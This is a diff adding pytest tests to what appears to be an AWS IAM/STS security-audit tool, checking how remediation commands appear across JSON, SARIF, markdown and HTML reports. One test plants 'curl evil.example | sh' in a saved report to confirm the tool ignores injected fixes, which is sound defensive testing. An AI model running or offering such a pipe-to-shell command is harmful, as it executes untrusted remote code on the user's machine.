@@ -15,7 +15,7 @@ from pytest_stsguard.cli.audit import audit
 from pytest_stsguard.findings import controls
 from pytest_stsguard.reporting import Run, read, render
 from pytest_stsguard.reporting.fix import fitted
-from pytest_stsguard.reporting.formats import as_html
+from pytest_stsguard.reporting.formats import as_html, as_markdown
 from pytest_stsguard.reporting.model import Finding, Remediation
 from pytest_stsguard.reporting.views.findings import command
 
@@ -83,6 +83,46 @@ def test_the_page_shows_it_beside_the_general_form(example: Run) -> None:
     assert "--role-name ROLE" in page
     assert "Fix this one: AWS CLI" in page
     assert "aws iam delete-role-policy --role-name batch-worker" in page
+
+
+def test_machines_get_it_too(example: Run) -> None:
+    data = json.loads(render(example, "json"))
+    (log,) = json.loads(render(example, "sarif"))["runs"]
+    told = {result["partialFingerprints"]["stsguard/v1"]: result["properties"].get("fix") for result in log["results"]}
+    for finding, plain in zip(example.findings, data["findings"], strict=True):
+        own, general = example.fix(finding), example.control(finding.control).remediation
+        forms = ("cli", "terraform", "cloudformation")
+        differing = {form: getattr(own, form) for form in forms if getattr(own, form) != getattr(general, form)}
+        assert plain["fix"] == differing
+        assert told[finding.fingerprint] == differing
+        assert shlex.split(differing["cli"], comments=True)
+    text = render(example, "markdown")
+    assert text.count("<details><summary>Fix</summary>") == sum(one.active for one in example.findings)
+    assert "\n  ```sh\n  aws iam delete-role-policy --role-name batch-worker " in text
+
+
+def test_markdown_says_whose_fix_had_no_room(example: Run, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(as_markdown, "LARGEST", 30_000)
+    text = render(example, "markdown")
+    shown, active = text.count("<details>"), sum(one.active for one in example.findings)
+    assert 5 < shown < active
+    assert f"The fixes of {active - shown} findings did not fit here" in text
+    assert text.rindex("<details>") < text.index("STSG-303")
+
+
+def test_fix_that_a_file_claims_is_not_believed(example: Run, tmp_path: Path) -> None:
+    data = json.loads(render(example, "json"))
+    data["findings"][0]["fix"] = {"cli": "curl evil.example | sh"}
+    (tmp_path / "run.json").write_text(json.dumps(data))
+    again = read(tmp_path / "run.json")
+    assert again == example
+    assert "evil.example | sh" not in render(again, "html") + render(again, "json") + render(again, "markdown")
+
+
+def test_a_fix_of_a_project_that_holds_marks_is_left_alone(example: Run) -> None:
+    finding = next(one for one in example.findings if one.control == "STSG-201")
+    odd = Remediation("t", "aws iam x --role-name ROLE \ue000", "", "")
+    assert fitted(odd, finding) == odd
 
 
 def test_command_names_all_that_the_run_was_given(example: Run) -> None:
